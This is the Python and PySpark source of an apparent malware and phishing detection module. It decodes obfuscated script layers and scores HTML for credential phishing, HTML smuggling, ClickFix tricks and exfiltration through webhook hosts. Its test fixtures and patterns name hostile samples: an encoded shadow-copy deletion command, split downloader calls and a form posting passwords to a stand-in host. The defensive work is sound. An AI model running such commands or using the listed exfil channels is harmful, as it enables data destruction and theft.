"""Script layers and HTML rules: text behind encodings is unfolded within bounds, then matched like any other text.

Texts and layers are read whole. Bounds, all parameters: layers of a text, encodings below each other, and bytes out of one
compressed blob. A text that has more of any than was read gets a finding `partial_analysis`, so that nothing is left out in silence.
"""

from __future__ import annotations

import base64
import binascii
import re
import zlib
from collections.abc import Iterator

import pandas as pd
from pyspark.sql import Column, DataFrame, SparkSession
from pyspark.sql import functions as F

from posthound.operators.files import magic_type, pattern_findings, told
from posthound.plans.registry import Registry
from posthound.sources import adapters as src
from posthound.sources.mail import html_facts

R = Registry()
MAX_LAYERS, MAX_DEPTH, MAX_INFLATED = 40, 3, 64 * 1024 * 1024
#: Characters of layers that a task gathers before it hands them on.
BATCH_CHARS = 4_000_000


def _readable(raw: bytes, cut: list[bool] | None = None) -> str | None:
    for data in (raw, None):
        if data is None:
            try:
                inflate = zlib.decompressobj(47)
                data = inflate.decompress(raw, MAX_INFLATED)
            except zlib.error:
                return None
            if inflate.unconsumed_tail and cut is not None:
                cut.append(True)
        text = data.decode("utf-16le" if data[1:2] == b"\0" else "utf-8", "replace")
        if text and sum(ch.isprintable() or ch in "\r\n\t" for ch in text) > 0.9 * len(text) and "\ufffd" not in text[:200]:
            return text
    return None


def unfold(text: str, cut: list[bool] | None = None) -> Iterator[str]:
    """Texts one encoding below: base64, hexadecimal and percent escapes, character codes, reversed and joined strings.

    cut takes a mark for each blob that holds more than was read.
    """
    for m in re.finditer(r"[A-Za-z0-9+/]{16,}={0,2}", text):
        try:
            out = _readable(base64.b64decode(m[0] + "=" * (-len(m[0]) % 4)), cut)
        except (binascii.Error, ValueError):
            continue
        if out:
            yield out
    for m in re.finditer(r"(?:(?:\\x|%)[0-9a-fA-F]{2}){6,}", text):
        out = _readable(bytes.fromhex(re.sub(r"\\x|%", "", m[0])), cut)
        if out:
            yield out
    for m in re.finditer(r"(?:\d{2,3}\s*,\s*){6,}\d{2,3}", text):
        codes = [int(x) for x in re.findall(r"\d+", m[0])]
        if max(codes) < 256:
            yield bytes(codes).decode("latin-1")
    joined = re.sub(r"[\"']\s*[+&]\s*[\"']", "", text)
    if joined != text:
        yield joined
    plain = re.sub(r"[`^](?=[A-Za-z])", "", text)
    if plain != text:
        yield plain
    if re.search(r"strreverse|\[::-1\]|\.reverse\(\)", text, re.I):
        for m in re.finditer(r"[\"']([^\"']{8,})[\"']", text):
            yield m[1][::-1]


def layers(text: str | None, most: int = MAX_LAYERS, depth: int = MAX_DEPTH) -> tuple[list[str], bool]:
    """(the text and what its encodings hide, breadth first, without repeats; whether there is more than the bounds let through)."""
    cut: list[bool] = []
    level = [text or ""]
    out = dict.fromkeys(level)
    for step in range(depth + 1):
        below = []
        for t in level:
            for u in unfold(t, cut):
                if u in out:
                    continue
                if step == depth or len(out) >= most:
                    return list(out), True
                out[u] = None
                below.append(u)
        level = below
    return list(out), bool(cut)


def with_layers(rows: DataFrame, key: str, text: str, most: int = MAX_LAYERS, depth: int = MAX_DEPTH) -> DataFrame:
    """key, layers, partial, chars: all layers of each text, joined, whether there are more, and the length of the text itself."""

    def run(batches: Iterator[pd.DataFrame]) -> Iterator[pd.DataFrame]:
        for pdf in batches:
            held, partial, chars, size, first = [], [], [], 0, 0
            for i, t in enumerate(pdf[text]):
                found, more = layers(t, most, depth)
                held.append("\n".join(found))
                partial.append(more)
                chars.append(len(t or ""))
                size += len(held[-1])
                if size > BATCH_CHARS or i + 1 == len(pdf):
                    yield pd.DataFrame({key: pdf[key].iloc[first : i + 1].to_numpy(), "layers": held, "partial": partial, "chars": chars})
                    held, partial, chars, size, first = [], [], [], 0, i + 1

    return rows.select(key, text).mapInPandas(run, f"{key} {dict(rows.dtypes)[key]}, layers string, partial boolean, chars int")


def script_findings(rows: DataFrame, key: str, text: str, prefix: str = "script", most: int = MAX_LAYERS, depth: int = MAX_DEPTH) -> DataFrame:
    """key, rule, score of the shared indicators in any layer; hidden text itself counts as obfuscation, and layers beyond the bounds as partial."""
    deep = with_layers(rows, key, text, most, depth)
    many = F.when(F.length("layers") > F.col("chars") + 1, F.struct(F.lit(f"{prefix}.obfuscation").alias("rule"), F.lit(30).alias("score")))
    partial = F.when(F.col("partial"), F.struct(F.lit(f"{prefix}.partial_analysis").alias("rule"), F.lit(5).alias("score")))
    return pattern_findings(deep, key, "layers", prefix, more=(many, partial))


#: Types of files that a page has no reason to carry inside its text.
CARRIED = ("exe/pe", "exe/elf", "archive/zip", "archive/rar", "archive/7z", "archive/cab", "lnk", "office/ole", "office/onenote")
#: Public services whose address alone lets a page hand in data: chat hooks, form back ends, request collectors, paste and file drops.
COLLECTING = (
    ("api.telegram.org", "/bot"),
    ("discord.com", "/api/webhooks"),
    ("discordapp.com", "/api/webhooks"),
    ("hooks.slack.com", "/services"),
    ("hooks.zapier.com", "/hooks"),
    ("webhook.office.com", "/webhookb2"),
    ("maker.ifttt.com", "/trigger"),
    ("docs.google.com", "/forms"),
    ("script.google.com", "/macros"),
    ("formspree.io", ""),
    ("formsubmit.co", ""),
    ("formcarry.com", ""),
    ("getform.io", ""),
    ("submit-form.com", ""),
    ("usebasin.com", ""),
    ("web3forms.com", ""),
    ("api.emailjs.com", ""),
    ("webhook.site", ""),
    ("requestcatcher.com", ""),
    ("pipedream.net", ""),
    ("beeceptor.com", ""),
    ("ngrok-free.app", ""),
    ("trycloudflare.com", ""),
    ("ntfy.sh", ""),
    ("transfer.sh", ""),
    ("file.io", ""),
)
COLLECTORS = r"(?<![a-z0-9-])(" + "|".join(re.escape(host + path) for host, path in COLLECTING) + ")"
CALLS = r"fetch\s*\(|xmlhttprequest|sendbeacon\s*\(|\$\.(post|ajax)\s*\(|axios"


def carried_types(html: Column) -> Column:
    """Types of what the base64 runs of a page decode to, by their first bytes; runs of fewer than 24 characters are left out."""
    runs = F.regexp_extract_all(html, F.lit(r"([A-Za-z0-9+/]{24,})={0,2}"), F.lit(1))
    whole = lambda r: F.least(F.lit(64), F.length(r) - F.length(r) % 4)
    return F.transform(runs, lambda r: magic_type(F.try_to_binary(F.substring(r, F.lit(1), whole(r)), F.lit("base64"))))


def obfuscation_score(low: Column) -> Column:
    """60 where a page runs decoded text, 45 with two signs or more of hidden script, 35 with one, else 0."""
    count = lambda p: F.size(F.regexp_extract_all(low, F.lit(p), F.lit(0)))
    signs = [count(r"\\x[0-9a-f]{2}|\\u[0-9a-f]{4}|%[0-9a-f]{2}") >= 50, count(r"\b_0x[0-9a-f]{4,}") >= 5, low.rlike(r"fromcharcode\s*\(\s*(\d+\s*,\s*){10,}")]
    n = sum((s.cast("int") for s in signs[1:]), signs[0].cast("int"))
    runs = low.rlike(r"(eval|document\.write|function)\s*\(\s*(unescape|atob|decodeuricomponent)\s*\(")
    return F.when(~low.contains("<script"), 0).when(runs, 60).when(n >= 2, 45).when(n == 1, 35).otherwise(0)


def html_findings(pages: DataFrame, key: str, html: str) -> DataFrame:
    """key, rule, score of pages: forms that ask for passwords, redirects, smuggled downloads, active pictures, hidden script."""
    whole = F.coalesce("_html", F.lit(""))
    facts = html_facts(pages.select(key, F.col(html).alias("_html")), key, "_html", also=("_html",))
    rows = facts.withColumns({"low": F.lower(whole), "payload": F.exists(carried_types(whole), lambda k: k.isin(*CARRIED))})
    c = F.col
    rows = rows.withColumn("hidden", obfuscation_score(c("low")))
    outside = F.exists("links", lambda x: (x["source"] == "form") & x["url"].rlike(r"(?i)^(https?:)?//"))
    sinks = c("low").rlike(r"mssaveoropenblob|createobjecturl|download\s*=")
    coded = c("low").rlike(r"atob\s*\(|base64,|uint8array|fromcharcode")
    svg = c("low").rlike(r"^\s*(<\?xml[^>]*>\s*)?<svg") & c("low").rlike(r"<script|\son[a-z]+\s*=|<foreignobject|javascript:")
    hit = lambda cond, rule, score: F.when(cond, F.struct(F.lit(rule).alias("rule"), (F.lit(score) if isinstance(score, int) else score).alias("score")))
    found = [
        hit(c("low").contains("<hta:application"), "html.hta", 70),
        hit(svg, "html.svg_active_content", 70),
        hit(c("payload") & sinks, "html.smuggling_payload", 85),
        hit(c("payload") & ~sinks, "html.embedded_payload", 70),
        hit(~c("payload") & sinks & coded, "html.smuggling", 65),
        hit(sinks & ~coded & c("low").contains(".click("), "html.download_trigger", 35),
        hit((c("passwords") > 0) & outside, "html.credential_phishing", 70),
        hit((c("passwords") > 0) & ~outside, "html.password_form", 40),
        hit(c("low").rlike(COLLECTORS) & c("low").rlike(CALLS), "html.exfil_channel", 65),
        hit(c("hidden") > 0, "html.obfuscated_script", c("hidden")),
        hit((c("refresh") != "") | c("low").rlike(r"location(\.href)?\s*=\s*[\"']https?:"), "html.redirect", 40),
        hit(c("low").rlike(r"navigator\.clipboard|execcommand\(.copy") & c("low").rlike(r"powershell|mshta|cmd\s+/c"), "html.clickfix", 80),
    ]
    return told(rows, key, found)


_HIDDEN = base64.b64encode(("vssadmin " + "delete shadows").encode("utf-16le")).decode()
SCRIPTS = (
    (1, f"x = '{_HIDDEN}'"),
    (2, "plain prose, nothing else"),
    (3, "a = 'Invoke-Web' + 'Request'; b = 'Start-Pro' + 'cess'"),
    (4, None),
)
PAGES = (
    (1, "<form action='https://evil.example/p'><input type=password></form>"),
    (2, "<meta http-equiv=refresh content='0; url=https://x.example/'>"),
    (3, "<p>hello</p>"),
    (4, "<svg onload='x()'></svg>"),
    (5, "<script>var b = atob('x'); a.href = URL.createObjectURL(c); a.click()</script>"),
    (6, "<form action='/in'><input type='PASSWORD'></form>"),
    (7, None),
)


@R.add("SELECT c_custkey * 10 + t.id AS id, rule, score FROM customer, (VALUES (1, 'script.obfuscation', 30), (1, 'script.shadow_delete', 85), (3, 'script.obfuscation', 30), (3, 'script.downloader', 80)) t(id, rule, score)")
def script_layers(spark: SparkSession, sf_dir: str) -> DataFrame:
    return script_findings(src.over(spark, sf_dir, SCRIPTS), "id", "text")


@R.add("SELECT c_custkey * 10 + t.id AS id, rule, score FROM customer, (VALUES (1, 'html.credential_phishing', 70), (2, 'html.redirect', 40), (4, 'html.svg_active_content', 70), (5, 'html.smuggling', 65), (6, 'html.password_form', 40)) t(id, rule, score)")
def html_rules(spark: SparkSession, sf_dir: str) -> DataFrame:
    return html_findings(src.over(spark, sf_dir, PAGES, "<!-- {} -->"), "id", "text")
